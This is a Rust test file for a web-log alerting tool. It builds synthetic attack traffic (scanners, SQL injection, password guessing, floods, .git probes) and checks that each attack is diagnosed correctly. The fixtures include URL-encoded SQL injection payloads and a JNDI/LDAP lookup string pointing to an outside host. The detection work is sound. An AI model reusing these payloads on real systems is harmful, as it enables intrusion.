//! Attacks, alone and within ordinary traffic: one incident each, with the right verdict and its clients.

use statusquo_alert::Diagnosis;

use super::quiet::{api, blog, letters};
use super::world::{Dice, FIREFOX, HOUR, Log, START, about, one};

/// Attacks begin in the afternoon of the first day.
const BEGIN: i64 = START + 14 * HOUR;

#[track_caller]
fn finds(attack: &dyn Fn() -> Log, diagnosis: Diagnosis, client: &str) {
    for log in [attack(), attack().and(blog(11, 1, 20.0)), attack().and(api(12, 20, 20))] {
        let incident = one(&log);
        assert_eq!(about(&incident).diagnosis, Some(diagnosis));
        assert!(about(&incident).clients.iter().any(|known| known == client), "{incident:#?}");
    }
}

#[test]
fn a_scanner_that_names_itself() {
    let attack = || {
        let (mut log, mut dice) = (Log::default(), Dice::new(21));
        for request in 0..3_000 {
            let code = *dice.one(&[404, 404, 404, 404, 200, 403, 400]);
            let target = format!("/{}.{}", letters(request), dice.one(&["php", "cgi", "bak", "txt"]));
            log.line(
                BEGIN + request / 10,
                "198.51.100.7",
                ("GET", &target),
                code,
                "Mozilla/5.00 (Nikto/2.1.5)",
            );
        }
        log
    };
    finds(&attack, Diagnosis::Scan, "198.51.100.7");
}

#[test]
fn a_search_for_folders_that_looks_like_a_browser() {
    let attack = || {
        let mut log = Log::default();
        for request in 0..2_000 {
            log.get(BEGIN + request / 5, "198.51.100.8", &format!("/{}/", letters(request)), 404);
        }
        log
    };
    finds(&attack, Diagnosis::Scan, "198.51.100.8");
}

#[test]
fn sql_in_a_parameter_that_is_answered_with_200() {
    let attack = || {
        let (mut log, mut dice) = (Log::default(), Dice::new(23));
        for request in 0..250 {
            let payload = *dice.one(&[
                "1%27%20AND%201%3D1--%20-",
                "1%20UNION%20ALL%20SELECT%20NULL%2CNULL",
                "1%29%20AND%20SLEEP%285%29",
                "1%20AND%20EXTRACTVALUE%281%2CCONCAT%280x5c%29%29",
            ]);
            let target = format!("/item?id={payload}&r={request}");
            log.get(BEGIN + request, "198.51.100.9", &target, if dice.happens(0.1) { 500 } else { 200 });
        }
        log
    };
    finds(&attack, Diagnosis::Scan, "198.51.100.9");
}

#[test]
fn passwords_tried_at_a_sign_in_that_denies_them() {
    let attack = || {
        let mut log = Log::default();
        for attempt in 0..600 {
            log.line(BEGIN + attempt / 3, "198.51.100.10", ("POST", "/login"), 401, "Mozilla/4.0 (Hydra)");
        }
        log
    };
    finds(&attack, Diagnosis::CredentialStuffing, "198.51.100.10");
}

#[test]
fn passwords_tried_at_a_form_that_answers_200() {
    let attack = || {
        let mut log = Log::default();
        for attempt in 0..400 {
            log.post(BEGIN + attempt * 4, "198.51.100.11", "/wp-login.php", 200);
        }
        log
    };
    finds(&attack, Diagnosis::CredentialStuffing, "198.51.100.11");
}

#[test]
fn stolen_credentials_tried_from_many_addresses() {
    let attack = || {
        let (mut log, mut dice) = (Log::default(), Dice::new(26));
        for attempt in 0..1_200 {
            let client = format!("192.0.2.{}", attempt % 200);
            let code = if dice.happens(0.01) { 200 } else { 401 };
            log.post(BEGIN + attempt, &client, "/v1/login", code);
        }
        log
    };
    finds(&attack, Diagnosis::CredentialStuffing, "192.0.2.1");
}

#[test]
fn a_spray_of_lookups_from_many_addresses() {
    let attack = || {
        let mut log = Log::default();
        for request in 0..200 {
            let client = format!("192.0.2.{}", request % 40);
            let target = format!("/?x=$%7Bjndi:ldap://203.0.113.5/{request}%7D");
            log.line(BEGIN + request * 5, &client, ("GET", &target), 200, FIREFOX);
        }
        log
    };
    finds(&attack, Diagnosis::Scan, "192.0.2.1");
}

#[test]
fn a_flood_from_one_address() {
    let attack = || {
        let mut log = Log::default();
        for request in 0..12_000 {
            log.get(BEGIN + request / 40, "198.51.100.13", "/", 200);
        }
        log
    };
    finds(&attack, Diagnosis::Flood, "198.51.100.13");
}

#[test]
fn a_scan_with_pauses_of_minutes_up_to_an_hour_is_one() {
    let attack = || {
        let mut log = Log::default();
        for (burst, begin) in [0, 10 * 60, 35 * 60, 95 * 60].into_iter().enumerate() {
            for request in 0..400 {
                let target =
                    format!("/{}/admin.php.bak", letters(request + 1_000 * i64::try_from(burst).unwrap()));
                log.get(BEGIN + begin + request / 4, "198.51.100.14", &target, 404);
            }
        }
        log
    };
    finds(&attack, Diagnosis::Scan, "198.51.100.14");
}

#[test]
fn a_slow_scanner_that_makes_the_server_fail_is_no_regression() {
    let attack = || {
        let (mut log, mut dice) = (Log::default(), Dice::new(29));
        for request in 0..400 {
            let target = format!("/item?id={request}%27%20OR%20%271%27%3D%271");
            log.get(BEGIN + request * 6, "198.51.100.15", &target, if dice.happens(0.6) { 500 } else { 200 });
        }
        log
    };
    finds(&attack, Diagnosis::Scan, "198.51.100.15");
}

#[test]
fn a_search_of_one_request_a_minute_is_seen_within_hours() {
    let attack = || {
        let mut log = Log::default();
        for request in 0..360 {
            log.get(
                BEGIN + request * 60 + request % 47,
                "198.51.100.16",
                &format!("/{}", letters(request * 91)),
                404,
            );
        }
        log
    };
    finds(&attack, Diagnosis::Scan, "198.51.100.16");
    let incident = one(&attack().and(api(12, 24, 20)));
    let opened = (incident.opened.as_second() - BEGIN) / 60;
    assert!((90..130).contains(&opened), "after {opened} minutes");
    assert!(
        about(&incident).evidence.iter().any(|said| said.contains("requests in 24 h failed")),
        "{incident:#?}"
    );
}

#[test]
fn a_slow_search_for_what_nobody_links_to_is_seen_sooner_and_with_pauses() {
    let attack = || {
        let mut log = Log::default();
        for request in 0..140 {
            let target = format!("/{}/.git/config", letters(request * 91));
            log.get(BEGIN + request * 150, "198.51.100.17", &target, 404);
        }
        log
    };
    finds(&attack, Diagnosis::Scan, "198.51.100.17");
}

#[test]
fn a_flood_of_good_requests_from_many_addresses() {
    let attack = || {
        let mut log = Log::default();
        for request in 0..24_000 {
            log.get(BEGIN + request / 80, &format!("192.0.2.{}", request % 250), "/", 200);
        }
        log
    };
    for log in [attack().and(blog(11, 1, 20.0)), attack().and(api(12, 20, 20))] {
        let incident = one(&log);
        assert_eq!(about(&incident).diagnosis, Some(Diagnosis::Flood));
        assert!(about(&incident).clients.len() >= 20, "{incident:#?}");
        let opened = incident.opened.as_second() - BEGIN;
        assert!(opened <= 5 * 60, "after {opened} seconds");
    }
}
